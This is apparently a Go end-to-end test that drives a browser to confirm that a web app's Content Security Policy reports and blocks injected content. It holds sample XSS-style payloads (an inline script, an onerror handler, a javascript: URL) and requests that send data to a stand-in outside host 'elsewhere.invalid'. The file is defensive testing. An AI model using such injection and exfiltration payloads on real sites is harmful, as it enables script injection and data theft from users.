//go:build e2e

package e2e

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"larderlamp/app/pantry"
	"larderlamp/rules"
	"larderlamp/testdata/hostile"
)

// What the other tests rest on: a breach of the policy and a request to another
// host are heard, also with scripts of its own switched off, and are stopped.
func TestBreachesAreHeard(t *testing.T) {
	s := serve(t, "")
	p := start(t).open(s, phone)
	p.visit("/about")
	for name, c := range map[string]struct{ script, fault string }{
		"a script in the page": {`(() => { const s = document.createElement("script"); s.textContent = "window.trapped = 1"; document.body.append(s); return true })()`, "script-src-elem"},
		"a handler":            {`(() => { const b = document.createElement("b"); b.innerHTML = "<img src=/none.png onerror='window.trapped = 1'>"; document.body.append(b); return true })()`, "script-src-attr"},
		"an address":           {`(() => { location.href = "javascript:window.trapped=1"; return true })()`, "script-src"},
		"a style":              {`(() => { const s = document.createElement("style"); s.textContent = "b{}"; document.head.append(s); return true })()`, "style-src-elem"},
		"a picture from afar":  {`(() => { new Image().src = "http://elsewhere.invalid/a.png"; return true })()`, "elsewhere.invalid"},
		"data to afar":         {`fetch("http://elsewhere.invalid/", { method: "POST", body: "x" }).then(() => false, () => true)`, "connect-src"},
		"a form":               {`(() => { const f = document.createElement("form"); f.action = "http://elsewhere.invalid/"; document.body.append(f); f.submit(); return true })()`, "form-action"},
		"a frame":              {`(() => { const f = document.createElement("iframe"); f.src = "http://elsewhere.invalid/"; document.body.append(f); return true })()`, "frame-src"},
	} {
		p.mu.Lock()
		p.faults = nil
		p.mu.Unlock()
		eval[bool](p, c.script)
		deadline := time.Now().Add(patience)
		for heard := false; !heard; {
			p.mu.Lock()
			heard = slices.ContainsFunc(p.faults, func(f string) bool { return strings.HasPrefix(f, breach) && strings.Contains(f, c.fault) })
			p.mu.Unlock()
			if time.Now().After(deadline) {
				t.Fatalf("%s is not heard: %q", name, p.faults)
			}
			time.Sleep(15 * time.Millisecond)
		}
		if eval[bool](p, `"trapped" in window`) {
			t.Errorf("%s ran", name)
		}
	}
	p.mu.Lock()
	p.faults = nil
	p.mu.Unlock()
}

var _ = chromedp.Navigate
var _ = fmt.Sprint
var _ = pantry.New
var _ = rules.Edition
var _ = hostile.Trap
